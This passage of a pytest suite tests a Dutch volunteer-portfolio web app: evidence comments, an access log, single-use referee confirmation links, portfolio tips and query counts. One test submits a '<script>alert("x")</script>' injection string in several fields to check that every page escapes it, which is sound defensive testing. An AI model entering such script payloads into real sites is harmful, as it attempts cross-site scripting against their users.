    page = follow(sam, comment(sam, secret_photo, "Mooie foto! Wat deed jij precies?"))
    assert "Je reactie is geplaatst." in page
    assert "Sam Begeleider" in page and "Mooie foto! Wat deed jij precies?" in page

    page = text(web.get(f"/bewijs/{secret_photo}"))
    assert "Mooie foto! Wat deed jij precies?" in page and "Reactie plaatsen" in page
    page = follow(web, comment(web, secret_photo, "Ik regelde de kraam."))
    assert "Ik regelde de kraam." in page

    cor = client_of(app, coordinator.email)
    page = text(cor.get(f"/bewijs/{secret_photo}"))
    assert "Ik regelde de kraam." in page and "Reactie plaatsen" not in page
    response = cor.post_form(
        f"/bewijs/{secret_photo}/reactie",
        {"body": "Ook ik!", "once": "x" * 20},
        form_url=f"/bewijs/{secret_photo}",
    )
    assert response.status_code == 404
    assert count(EvidenceComment) == 2

    outbox = text(cor.get("/postvak-uit"))
    assert f"Nieuwe reactie op „{SECRET_TITLE}”" in outbox
    assert "Aan: vrijwilliger@test.example" in outbox and "Aan: begeleider@test.example" in outbox
    assert "Sam Begeleider heeft gereageerd" in outbox
    assert "Vera Vrijwilliger heeft gereageerd" in outbox


def test_an_empty_comment_is_refused(app, supervisor, secret_photo):
    sam = client_of(app, supervisor.email)
    for body in ("", "   "):
        page = follow(sam, comment(sam, secret_photo, body))
        assert "Schrijf eerst een reactie." in page
    assert count(EvidenceComment) == 0


# --- access log ----------------------------------------------------------------------------------


def test_the_volunteer_sees_who_opened_and_downloaded_her_evidence(
    app, web, supervisor, secret_photo, recognising
):
    inzage = f"/trajecten/{recognising.id}/portfolio/inzage"
    web.get(f"/bewijs/{secret_photo}")  # her own views are not listed
    with web.get(f"/bewijs/{secret_photo}/bestand"):
        pass
    page = text(web.get(inzage))
    assert "Niemand anders heeft je bewijs nog geopend." in page

    sam = client_of(app, supervisor.email)
    sam.get(f"/bewijs/{secret_photo}")
    with sam.get(f"/bewijs/{secret_photo}/bestand") as response:
        assert response.status_code == 200
    assert sam.get(inzage).status_code == 404

    assert "Wie heeft mijn bewijs bekeken?" in text(web.get(overview_url(recognising.id)))
    page = text(web.get(inzage))
    rows = re.findall(r"<tr><td>.*?</tr>", page, re.S)
    assert len(rows) == 2, rows
    assert "Sam Begeleider" in rows[0] and f"{SECRET_TITLE}: bestand gedownload" in rows[0]
    assert "Sam Begeleider" in rows[1] and f"{SECRET_TITLE}: bekeken" in rows[1]
    assert "Vera Vrijwilliger" not in "".join(rows)


# --- referees ------------------------------------------------------------------------------------


def add_statement(web, trajectory_id: int, title="Verklaring van de coördinator") -> int:
    follow(
        web,
        post(
            web,
            add_url(trajectory_id),
            evidence_form(
                "referee_statement",
                title=title,
                description="Vera is al twee jaar elke week aanwezig en komt afspraken na.",
            ),
        ),
    )
    db.session.expire_all()
    return db.session.scalar(select(EvidenceItem.id).where(EvidenceItem.title == title))


def ask_referee(web, item_id: int, name="Joke de Wit", email="joke@test.example"):
    return web.post_form(
        f"/bewijs/{item_id}/verklaring-vragen",
        {"name": name, "role": "Coördinator buurthuis", "email": email},
    )


def link_from_outbox(cor: Browserless, address: str) -> str:
    """The coordinator sees the referee's mail with its link masked; the referee reads the
    link in their own mailbox."""
    outbox = text(cor.get("/postvak-uit"))
    messages = re.findall(r'<li class="card outbox__message">.*?</li>', outbox, re.S)
    shown = next((m for m in messages if f"Aan: {address}" in m), None)  # newest first
    assert shown is not None, f"no mail to {address} in the outbox"
    assert shown.count("/verklaring/") == shown.count("…/verklaring/••••••") == 1
    body = db.session.scalar(
        select(OutboxMessage.body)
        .where(OutboxMessage.to_address == address)
        .order_by(OutboxMessage.id.desc())
    )
    return re.search(r"http://localhost(/verklaring/[A-Za-z0-9_-]+)", body).group(1)


def answer(referee: Browserless, link: str, choice: str, words: str = ""):
    return referee.post_form(referee.open_link(link), {"answer": choice, "words": words})


def test_referee_confirms_through_a_single_use_link_without_an_account(app, web, vera, coordinator):
    item_id = add_statement(web, vera)
    page = text(web.get(f"/bewijs/{item_id}"))
    assert "Nog niet gevraagd." in page and "Verklaring vragen" in page

    page = follow(web, ask_referee(web, item_id))
    assert "Joke de Wit krijgt een e-mail met een link om je verklaring te bevestigen." in page
    assert "wacht op Joke de Wit" in page

    cor = client_of(app, coordinator.email)
    outbox = text(cor.get("/postvak-uit"))
    assert "Vera Vrijwilliger vraagt je om een verklaring" in outbox
    link = link_from_outbox(cor, "joke@test.example")

    referee = Browserless(app.test_client())  # no login
    page = text(referee.get(link, follow_redirects=True))
    assert "Wil je dit bevestigen?" in page
    assert "Vera Vrijwilliger doet vrijwilligerswerk en vraagt jou, Joke de Wit" in page
    assert "Vera is al twee jaar elke week aanwezig en komt afspraken na." in page
    form_token = csrf_from(page)
    done = answer(referee, link, "confirm", "Klopt. Vera is een van onze vaste krachten.")
    assert done.status_code == 200 and "Dank je wel" in text(done)

    with app.test_request_context():
        today = format_date(utcnow(), "d MMMM yyyy")
    page = text(web.get(f"/bewijs/{item_id}"))
    assert f"bevestigd door Joke de Wit, {today}" in page
    assert "Klopt. Vera is een van onze vaste krachten." in page
    assert "Opnieuw vragen" not in page
    assert f"bevestigd door Joke de Wit, {today}" in text(web.get(overview_url(vera)))
    assert "Joke de Wit heeft gereageerd op je verklaring" in text(cor.get("/postvak-uit"))

    # The link is used up, for a GET and for a resent form.
    used = referee.get(link, follow_redirects=True)
    assert used.status_code == 410 and "Deze link werkt niet meer" in text(used)
    again = referee.client.post(
        "/verklaring", data={"csrf_token": form_token, "answer": "decline", "words": "Toch niet"}
    )
    assert again.status_code == 410
    assert "Klopt. Vera is" in text(web.get(f"/bewijs/{item_id}"))


def test_the_referee_link_keeps_its_token_out_of_the_address(app, web, vera, coordinator):
    item_id = add_statement(web, vera)
    follow(web, ask_referee(web, item_id))
    link = link_from_outbox(client_of(app, coordinator.email), "joke@test.example")
    referee = Browserless(app.test_client())
    opened = referee.get(link)
    assert (opened.status_code, opened.headers["Location"]) == (302, "/verklaring")
    page = text(referee.get("/verklaring"))
    assert "Wil je dit bevestigen?" in page and link.rsplit("/", 1)[1] not in page
    done = referee.post_form("/verklaring", {"answer": "confirm", "words": ""})
    assert "Dank je wel" in text(done)
    assert referee.get(link, follow_redirects=True).status_code == 410


def test_referee_declines_with_a_reason_and_asking_again_replaces_the_link(
    app, web, vera, coordinator
):
    item_id = add_statement(web, vera)
    follow(web, ask_referee(web, item_id))
    cor = client_of(app, coordinator.email)
    old = link_from_outbox(cor, "joke@test.example")
    referee = Browserless(app.test_client())

    no_reason = answer(referee, old, "decline")
    assert no_reason.status_code == 422
    assert "Schrijf kort waarom je dit niet kunt bevestigen." in text(no_reason)
    no_choice = referee.post_form(referee.open_link(old), {"words": "?"})
    assert no_choice.status_code == 422 and "Kies of je het bevestigt." in text(no_choice)
    assert "Dank je wel" in text(answer(referee, old, "decline", "Ik ken Vera niet."))
    page = text(web.get(f"/bewijs/{item_id}"))
    assert "niet bevestigd door Joke de Wit" in page and "Ik ken Vera niet." in page
    assert "Opnieuw vragen" in page

    follow(web, ask_referee(web, item_id, name="Piet Buur", email="piet@test.example"))
    new = link_from_outbox(cor, "piet@test.example")
    assert new != old
    assert referee.get(old, follow_redirects=True).status_code == 410
    fresh = Browserless(app.test_client())
    assert "vraagt jou, Piet Buur" in text(fresh.get(new, follow_redirects=True))
    assert "wacht op Piet Buur" in text(web.get(f"/bewijs/{item_id}"))
    assert count(RefereeRequest) == 1


def test_a_confirmed_statement_cannot_be_changed_behind_the_referees_back(
    app, web, vera, coordinator
):
    item_id = add_statement(web, vera)
    follow(web, ask_referee(web, item_id))
    link = link_from_outbox(client_of(app, coordinator.email), "joke@test.example")
    assert "Dank je wel" in text(answer(Browserless(app.test_client()), link, "confirm"))
    changed = "Vera heeft de kas van het buurthuis twee jaar alleen beheerd."
    token, data = edit_form(
        item_id,
        web,
        kind="referee_statement",
        description=changed,
        title="Verklaring van de coördinator",
    )
    post(web, f"/bewijs/{item_id}/bewerken", data, token=token)
    page = text(web.get(f"/bewijs/{item_id}"))
    # Either the text stays as confirmed, or the confirmation no longer shows.
    assert not ("bevestigd door Joke de Wit" in page and changed in page)


def test_the_ask_referee_form_sent_twice_mails_the_referee_once(app, web, vera, coordinator):
    item_id = add_statement(web, vera)
    url = f"/bewijs/{item_id}/verklaring-vragen"
    token = tokens(web, url)  # one page, sent twice (a double click)
    data = {"name": "Joke de Wit", "role": "Coördinator", "email": "joke@test.example"}
    for _ in range(2):
        web.client.post(
            url,
            data={**token, **data},
            base_url=web.base_url,
            headers={"Referer": web.base_url + url},
        )
    assert count(OutboxMessage, OutboxMessage.to_address == "joke@test.example") == 1
    # The link in the (first and only) mail works.
    first = link_from_outbox(client_of(app, coordinator.email), "joke@test.example")
    assert Browserless(app.test_client()).get(first, follow_redirects=True).status_code == 200


def test_an_expired_or_mistyped_link_does_not_work(app, web, vera, coordinator, session):
    item_id = add_statement(web, vera)
    follow(web, ask_referee(web, item_id))
    link = link_from_outbox(client_of(app, coordinator.email), "joke@test.example")
    referee = Browserless(app.test_client())
    assert referee.get(link, follow_redirects=True).status_code == 200
    assert referee.get(link[:-2], follow_redirects=True).status_code == 410
    request = session.scalars(select(RefereeRequest)).one()
    request.expires_at = utcnow() - timedelta(seconds=1)
    session.commit()
    expired = referee.get(link, follow_redirects=True)
    assert expired.status_code == 410 and "Deze link werkt niet meer" in text(expired)
    assert "Vera is al twee jaar" not in text(expired)


def test_the_ask_referee_form_checks_its_fields_and_only_works_for_a_statement(app, web, vera):
    item_id = add_statement(web, vera)
    empty = web.post_form(
        f"/bewijs/{item_id}/verklaring-vragen", {"name": "", "role": "", "email": "geen-adres"}
    )
    assert empty.status_code == 422
    page = text(empty)
    for message in ("Vul de naam in.", "Vul de rol in.", "Vul een geldig e-mailadres in"):
        assert message in page
    assert count(RefereeRequest) == 0

    follow(web, post(web, add_url(vera), evidence_form("story", title="Mijn verhaal")))
    story_id = db.session.scalar(
        select(EvidenceItem.id).where(EvidenceItem.title == "Mijn verhaal")
    )
    assert "Verklaring vragen" not in text(web.get(f"/bewijs/{story_id}"))
    response = web.post_form(
        f"/bewijs/{story_id}/verklaring-vragen",
        {"name": "Joke", "role": "Coördinator", "email": "joke@test.example"},
        form_url=f"/bewijs/{item_id}/verklaring-vragen",
    )
    assert response.status_code == 422
    assert "Een referent vraag je alleen bij een verklaring." in text(response)
    assert count(RefereeRequest) == 0
    assert count(OutboxMessage, OutboxMessage.to_address == "joke@test.example") == 0


def test_only_the_volunteer_asks_a_referee(app, supervisor, web, vera):
    item_id = add_statement(web, vera)
    sam = client_of(app, supervisor.email)
    page = follow(sam, sam.get(f"/bewijs/{item_id}/verklaring-vragen"))
    assert "Alleen de vrijwilliger vraagt een verklaring aan." in page
    assert count(RefereeRequest) == 0


def test_text_typed_by_the_volunteer_is_never_markup(app, web, vera, supervisor, coordinator):
    evil = '<script>alert("x")</script>'
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form(
                "referee_statement",
                title=f"Titel {evil}",
                description=f"Tekst {evil}",
                work_context=f"Plek {evil}",
                activity_from=day(-6 * 365),
            ),
        ),
    )
    item_id = only_item().id
    follow(web, ask_referee(web, item_id, name=f"Joke {evil}"))
    sam = client_of(app, supervisor.email)
    sam.get(f"/bewijs/{item_id}")
    follow(sam, comment(sam, item_id, f"Reactie {evil}"))
    link = link_from_outbox(client_of(app, coordinator.email), "joke@test.example")
    pages = {
        "overview (with tips)": web.get(overview_url(vera)),
        "item": web.get(f"/bewijs/{item_id}"),
        "edit": web.get(f"/bewijs/{item_id}/bewerken"),
        "remove": web.get(f"/bewijs/{item_id}/verwijderen"),
        "ask referee": web.get(f"/bewijs/{item_id}/verklaring-vragen"),
        "access log": web.get(f"/trajecten/{vera}/portfolio/inzage"),
        "referee page": Browserless(app.test_client()).get(link, follow_redirects=True),
        "outbox": client_of(app, coordinator.email).get("/postvak-uit"),
    }
    for name, response in pages.items():
        page = text(response)
        assert response.status_code == 200, name
        assert "<script>alert" not in page, name
        assert "&lt;script&gt;alert" in page, name


# --- VRAAK tips ----------------------------------------------------------------------------------


def tips(web, trajectory_id: int) -> list[str]:
    page = text(web.get(overview_url(trajectory_id)))
    section = re.search(
        r'<section class="panel" aria-labelledby="tips-title">(.*?)</section>', page, re.S
    )
    return re.findall(r"<li>(.*?)</li>", section.group(1), re.S) if section else []


def test_vraak_tips_appear_and_disappear_as_the_evidence_grows(app, web, vera):
    volunteer = db.session.get(Trajectory, vera).volunteer

    def add(title, competencies, days_ago=30, context="Buurthuis De Linde"):
        item = services.add_evidence(
            db.session.get(Trajectory, vera),
            {
                "kind": "story",
                "title": title,
                "description": "Wat ik deed.",
                "activity_from": date.today() - timedelta(days=days_ago),
                "activity_to": None,
                "work_context": context,
            },
            competencies,
            upload=None,
            original_name=None,
            actor=volunteer,
        )
        db.session.commit()
        return item.id

    assert [t.split(":")[0] for t in tips(web, vera)] == ["Kwantiteit", "Kwantiteit"]
    add("Koffie schenken", ["communicating"])
    shown = tips(web, vera)
    assert any(t.startswith("Kwantiteit") and "Communiceren" in t for t in shown)
    assert not any(t.startswith(("Actualiteit", "Variatie")) for t in shown)

    old = add(
        "Kamp in 2018",
        ["communicating", "cooperating"],
        days_ago=6 * 365,
        context="  buurthuis de linde ",
    )
    shown = tips(web, vera)
    assert not any("Communiceren" in t for t in shown)
    assert any(t.startswith("Kwantiteit") and "Samenwerken" in t for t in shown)
    assert "Actualiteit: „Kamp in 2018” is ouder dan vijf jaar." in " ".join(shown)
    assert any(
        t.startswith("Variatie: al je bewijs komt uit hetzelfde vrijwilligerswerk") for t in shown
    )

    add("Samen de markt opbouwen", ["cooperating"], context="Voedselbank Oost")
    shown = tips(web, vera)
    assert [t.split(":")[0] for t in shown] == ["Actualiteit"]

    item = db.session.get(EvidenceItem, old)
    services.update_evidence(
        item,
        {
            "kind": "story",
            "title": "Kamp vorig jaar",
            "description": "Wat ik deed.",
            "activity_from": date.today() - timedelta(days=300),
            "activity_to": None,
            "work_context": "Buurthuis De Linde",
        },
        ["communicating", "cooperating"],
        upload=None,
        original_name=None,
        remove_file=False,
        version_id=item.version_id,
        actor=volunteer,
    )
    db.session.commit()
    assert tips(web, vera) == []
    assert "Tips om je bewijs sterker te maken" not in text(web.get(overview_url(vera)))


# --- speed ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("n", [1, 3])
def test_overview_query_count_does_not_grow_with_items(app, web, vera, queries, n):
    trajectory = db.session.get(Trajectory, vera)
    volunteer = trajectory.volunteer
    for i in range(n):
        kind = "referee_statement" if i == 0 else "story"
        item = services.add_evidence(
            trajectory,
            {
                "kind": kind,
                "title": f"Bewijs {i}",
                "description": "Wat ik deed.",
                "activity_from": date.today() - timedelta(days=10 + i),
                "activity_to": None,
                "work_context": f"Plek {i}",
            },
            ["communicating", "cooperating"],
            upload=None,
            original_name=None,
            actor=volunteer,
        )
        if i == 0:
            services.request_referee(
                item, name="Joke", role="Buur", email="joke@test.example", actor=volunteer
            )
    db.session.commit()
    web.get(overview_url(vera))
    with queries() as statements:
        page = text(web.get(overview_url(vera)))
    assert page.count("data-item=") == n
    assert "wacht op Joke" in page
    # the session, the user with memberships, the trajectory with its people, the items, their
    # links, their referees, and the seven progress queries (sessions, attendance, choices,
    # self-assessments, intakes, evidence counts, organisation settings): 13 for 1 or 3 items
    assert len(statements) == 13, statements
